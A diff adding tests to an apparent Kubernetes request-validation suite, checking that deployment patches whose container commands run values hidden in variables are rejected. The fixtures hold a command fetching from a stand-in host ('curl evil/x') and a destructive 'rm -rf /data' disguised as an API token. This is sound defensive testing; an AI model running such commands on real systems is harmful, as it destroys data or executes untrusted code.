@@ -245,6 +245,19 @@ describe('the size of a question', () => {
     )
   })
 
+  test.each([
+    { name: 'a variable that is run', container: { command: ['sh', '-c', "PASSWORD='curl evil/x' && $PASSWORD"] } },
+    {
+      name: 'a variable of the container that is run',
+      container: { env: [{ name: 'API_TOKEN', value: 'rm -rf /data' }], command: ['sh', '-c', '$API_TOKEN'] },
+    },
+  ])('what would be hidden behind a mask and may run is no question: $name', ({ container }) => {
+    const body = JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'c', ...container }] } } } })
+    expect(whyNot(`PATCH ${DEPLOYMENT}`, { body, type: 'application/strategic-merge-patch+json' })).toMatch(
+      /credential/,
+    )
+  })
+
   // Where each item brings its whole path along, these take minutes.
   test.each(['/api/v1/namespaces/shop/secrets/db', DEPLOYMENT])(
     'one long name over thousands of items is no question: %s',
